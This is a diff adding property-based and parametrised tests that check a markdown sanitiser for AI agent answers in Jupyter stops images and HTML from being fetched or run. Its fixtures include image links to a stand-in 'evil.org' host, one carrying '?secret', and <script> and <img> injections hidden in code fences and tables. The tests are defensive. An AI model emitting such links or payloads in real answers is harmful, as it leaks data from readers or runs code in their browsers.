@@ -5,6 +5,9 @@ from __future__ import annotations
 import re
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 from nbconvert.filters.markdown import markdown2html
 
 from acp_jupyter.transcript.diff_text import unified_diff
@@ -161,6 +164,49 @@ def test_no_answer_swallows_what_follows_it(text: str) -> None:
 def test_code_keeps_its_signs_and_images_are_not_fetched() -> None:
     text = "`a<b>` <https://x.org>\n\n```html\n<b>![x](http://e)</b>\n```\n![x](http://evil/p.png)"
     assert agent_markdown(text) == text.replace("\n![x]", "\n[x]")
+
+
+PIECES = (
+    *("```", "~~~", "````", "    ```", "  ```", "\t```", "> ", "- ", "1. ", "   ", "\n", "\n\n"),
+    *("`", "``", "![x](https://evil.org/a.png)", "![x][r]", "[r]: https://evil.org/b.png", "\\"),
+    *("<img src=https://evil.org/c>", "<!--", "-->", "<script>", "x", "!", "[", "]", "a|b\n-|-\n"),
+    *("](https://evil.org/d.png)", "<https://evil.org>", "$$", "$", "\\[", "\\begin{x}", "\u2028"),
+)
+FETCHED = (
+    "!![x](https://evil.org/?secret)",
+    "x" * 20_001 + "![x](https://evil.org/?secret)",
+    "> ```<script>`",
+    "text\n    ```\n    <script>",
+    "- a\n  ```\nfoo\n<script>",
+    "\\`<script>`",
+    "1. ```\n<!--",
+    "$$\n```\n$$\n<script>\n",
+    "https://evil.org/```<img src=x>```",
+    "[^1]:   \n```\n<img src=x>```",
+    "a|b\n-|-\n~~~<img src=x>|``````\n<script>",
+)
+
+
+def check_nothing_is_fetched(text: str) -> None:
+    """Neither as the standard reads it, nor as nbconvert does."""
+    drawn = agent_markdown(text)
+    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    for block in parser.parse(drawn):
+        kinds = {block.type, *(each.type for each in block.children or ())}
+        assert not kinds & {"image", "html_block", "html_inline"}, drawn
+    page = markdown2html(drawn)
+    assert "<script" not in page
+    assert "<img" not in page
+
+
+@pytest.mark.parametrize("text", FETCHED)
+def test_nothing_is_fetched_or_run_by_looking_at_an_answer(text: str) -> None:
+    check_nothing_is_fetched(text)
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=9))
+def test_nothing_is_fetched_or_run_by_looking_at_any_answer(pieces: list[str]) -> None:
+    check_nothing_is_fetched("".join(pieces))
 
 
 def test_a_title_can_not_break_out_of_its_line() -> None:
